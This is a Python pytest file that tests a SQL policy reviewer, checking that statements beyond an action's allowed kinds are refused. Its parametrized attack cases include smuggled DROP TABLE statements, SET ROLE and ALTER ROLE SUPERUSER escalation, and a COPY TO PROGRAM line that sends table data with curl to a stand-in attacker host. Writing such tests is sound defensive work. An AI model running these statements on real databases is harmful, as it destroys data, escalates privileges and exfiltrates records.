"""A SQL action's statements as PostgreSQL's parser reads them, judged by the action's limits:
every way to run more than the policy allows, tried."""

from __future__ import annotations

import pytest

from jitops.models import SqlLimits
from jitops.sql_review import review_sql

UPDATE_ONLY = SqlLimits(allow=["update"])


def test_an_allowed_update_is_one_statement_of_its_kind() -> None:
    review = review_sql("UPDATE orders SET state = 'paid'\n  WHERE id = 1002;\n", UPDATE_ONLY)
    assert review.allowed
    [statement] = review.statements
    assert statement.kinds == ("update",) and statement.writes
    assert statement.text == "UPDATE orders SET state = 'paid'\n  WHERE id = 1002"


def test_statements_are_located_by_line() -> None:
    review = review_sql("select 1;\n\n  select 2;\n", SqlLimits(allow=["select"]))
    assert [(s.line, s.text) for s in review.statements] == [(1, "select 1"), (3, "select 2")]


@pytest.mark.attack(3, "run SQL the action's policy does not allow")
@pytest.mark.parametrize(
    "sql, words",
    [
        ("UPDATE t SET a = 1;\nDROP TABLE orders;", "DROP"),  # a second statement smuggled in
        ("WITH gone AS (DELETE FROM orders RETURNING *) UPDATE t SET a = 1", "DELETE"),
        ("EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN and DELETE"),  # ANALYZE runs it
        ("BEGIN; UPDATE t SET a = 1; COMMIT;", "transaction control"),
        ("UPDATE t SET a = 1; COMMIT; DELETE FROM orders", "transaction control"),
        ("SET ROLE postgres; UPDATE t SET a = 1", "SET"),
        ("SET statement_timeout = 0; UPDATE t SET a = 1", "SET"),
        ("UPDATE t SET a = (SELECT set_config('role', 'postgres', true)::int)", "set_config"),
        ("DO $$ BEGIN DELETE FROM orders; END $$", "DO runs code"),
        ("COPY orders TO PROGRAM 'curl -d @- https://evil.example'", "COPY"),
        ("CALL purge_orders()", "CALL"),
        ("GRANT ALL ON orders TO public", "GRANT"),
        ("ALTER ROLE jitops_actions SUPERUSER", "ALTER ROLE"),
        ("UPDATE t SET a = 1 /* ; DROP TABLE t */", None),  # a comment is no statement
        ("UPDATE t SET a = ';DROP TABLE t;'", None),  # nor is a string
    ],
)
def test_what_the_action_does_not_allow_is_refused_at_its_line(sql: str, words: str | None) -> None:
    """Attack (SQL past the policy): a second statement, a data-modifying WITH, an EXPLAIN
    ANALYZE that runs what it explains, leaving jitops' transaction, changing the role or the
    timeout, code the parse cannot see. Comments and strings are not statements."""
    review = review_sql(sql, UPDATE_ONLY)
    if words is None:
        assert review.allowed, review.problems
        assert review.kinds == ("update",)
        return
    assert not review.allowed
    assert any(words in p.message for p in review.problems), review.problems
    assert all(p.hint for p in review.problems)


@pytest.mark.attack(3, "write through a read-only action")
@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * INTO copy_of_orders FROM orders",
        "WITH x AS (UPDATE orders SET state = 'paid' RETURNING id) SELECT * FROM x",
    ],
)
def test_a_read_only_action_refuses_what_writes(sql: str) -> None:
    review = review_sql(sql, SqlLimits(allow=["select"], read_only=True))
    assert not review.allowed, review.statements


def test_sql_postgresql_cannot_parse_says_so_at_its_line() -> None:
    review = review_sql("UPDATE t SET a = 1;\nUPDATE t SET", UPDATE_ONLY)
    [problem] = review.problems
    assert problem.message.startswith("PostgreSQL cannot parse the SQL: syntax error")
    assert review.statements == ()


def test_nothing_but_comments_is_no_action() -> None:
    assert review_sql("-- nothing\n", UPDATE_ONLY).problems[0].message == (
        "the SQL holds no statement"
    )


def test_the_limits_refuse_a_read_only_action_allowing_writes() -> None:
    with pytest.raises(ValueError, match="a read-only action cannot allow update"):
        SqlLimits(allow=["select", "update"], read_only=True)
